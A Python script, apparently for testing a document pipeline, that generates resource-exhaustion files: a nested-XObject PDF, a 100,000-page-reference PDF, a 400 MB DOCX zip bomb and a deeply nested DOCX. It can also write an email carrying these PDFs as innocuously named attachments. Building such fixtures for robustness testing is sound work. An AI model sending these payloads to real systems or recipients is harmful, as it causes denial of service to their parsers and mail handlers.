#!/usr/bin/env python3
"""Writes the documents an attacker would send, into DIR (our own, made here):

  nested-xobjects.pdf   one page whose form XObjects each draw the next ten times, eight
                        deep: 10^8 draws for whoever renders or extracts its text
  many-pages.pdf        a page tree of 100,000 page references
  zip-bomb.docx         a DOCX whose word/document.xml inflates to 400 MB
  deep-xml.docx         a DOCX whose document.xml nests 100,000 elements

and, with --mail, hostile.eml: a mail from FROM to TO carrying four copies of the nested
XObjects (named so that only their text could classify them) and the page tree, which costs
whoever reads it the whole budget of one message.

Usage: make-hostile-docs.py DIR [--mail FROM TO]"""
import os
import sys
import zipfile
from email.message import EmailMessage


def pdf(objects):
    """A PDF with a correct xref from a list of object bodies (bytes), numbered from 1."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


def stream(dictionary, data):
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def nested_xobjects(depth=8, fan=10):
    first = 6  # objects 1-5: catalog, pages, page, content, font
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /X0 %d 0 R >> /Font << /F1 5 0 R >> >> >>" % first,
        stream(b"", b"q /X0 Do Q"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for level in range(depth):
        last = level == depth - 1
        if last:
            body = b"BT /F1 12 Tf 72 720 Td (deep) Tj ET"
            res = b"/Resources << /Font << /F1 5 0 R >> >>"
        else:
            body = b" ".join([b"q /X Do Q"] * fan)
            res = b"/Resources << /XObject << /X %d 0 R >> >>" % (first + level + 1)
        objects.append(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] " + res,
                              body))
    return pdf(objects)


def many_pages(count=100000):
    kids = b" ".join([b"3 0 R"] * count)
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ])


def docx(path, document_xml_chunks):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Override PartName="/word/document.xml" '
                   'ContentType="application/vnd.openxmlformats-officedocument.'
                   'wordprocessingml.document.main+xml"/></Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
                   'org/package/2006/relationships"><Relationship Id="r1" Type="http://'
                   'schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   'officeDocument" Target="word/document.xml"/></Relationships>')
        with z.open("word/document.xml", "w", force_zip64=True) as f:
            for chunk in document_xml_chunks:
                f.write(chunk)


def bomb_chunks(total=400 * 1024 * 1024):
    yield b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/' \
          b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
    block = b" " * (1024 * 1024)
    for _ in range(total // len(block)):
        yield block
    yield b"</w:t></w:r></w:p></w:body></w:document>"


def deep_chunks(depth=100000):
    yield b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/' \
          b'wordprocessingml/2006/main"><w:body>'
    yield b"<w:p>" * depth
    yield b"</w:p>" * depth
    yield b"</w:body></w:document>"


def hostile_mail(out, sender, to):
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = sender, to, "my documents"
    m["Message-ID"] = "<hostile@example.com>"
    m.set_content("Please find my documents attached.")
    with open(os.path.join(out, "nested-xobjects.pdf"), "rb") as f:
        nested = f.read()
    for i in range(4):
        m.add_attachment(nested, maintype="application", subtype="pdf", filename=f"scan{i}.pdf")
    with open(os.path.join(out, "many-pages.pdf"), "rb") as f:
        m.add_attachment(f.read(), maintype="application", subtype="pdf", filename="pages.pdf")
    with open(os.path.join(out, "hostile.eml"), "w") as f:
        f.write(m.as_string())


def main():
    args = sys.argv[1:]
    if len(args) not in (1, 4) or (len(args) == 4 and args[1] != "--mail"):
        sys.exit(__doc__)
    out = args[0]
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "nested-xobjects.pdf"), "wb") as f:
        f.write(nested_xobjects())
    with open(os.path.join(out, "many-pages.pdf"), "wb") as f:
        f.write(many_pages())
    docx(os.path.join(out, "zip-bomb.docx"), bomb_chunks())
    docx(os.path.join(out, "deep-xml.docx"), deep_chunks())
    if len(args) == 4:
        hostile_mail(out, args[2], args[3])


if __name__ == "__main__":
    main()
